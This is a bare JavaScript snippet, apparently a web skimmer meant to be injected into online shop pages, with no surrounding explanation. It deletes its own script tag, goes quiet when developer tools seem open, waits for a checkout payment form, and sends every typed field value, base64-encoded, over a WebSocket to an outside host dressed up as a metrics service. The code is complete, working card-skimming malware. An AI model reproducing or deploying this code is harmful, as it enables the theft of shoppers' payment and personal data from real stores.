(async function () {
  const el = document.currentScript;
  el?.parentNode?.removeChild(el);

  if (window.outerHeight - window.innerHeight > 200) return;
  if (!location.pathname.includes('checkout')) return;

  const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
  let form = null;
  for (let i = 0; i < 30 && !form; i++) {
    form = document.querySelector('form#co-payment-form, form[action*="payment"], form.checkout');
    if (!form) await sleep(1000);
  }
  if (!form) return;

  const socket = new WebSocket('wss://ws.metrics-pool.xyz:8443/');
  const queue = [];
  socket.addEventListener('open', () => {
    while (queue.length) socket.send(queue.shift());
  });

  const push = (msg) => {
    const frame = btoa(JSON.stringify(msg));
    socket.readyState === 1 ? socket.send(frame) : queue.push(frame);
  };

  form.addEventListener('input', (ev) => {
    const t = ev.target;
    if (!(t instanceof HTMLInputElement) && !(t instanceof HTMLSelectElement)) return;
    push({ k: t.name || t.id, v: t.value, s: location.host });
  }, true);
})();
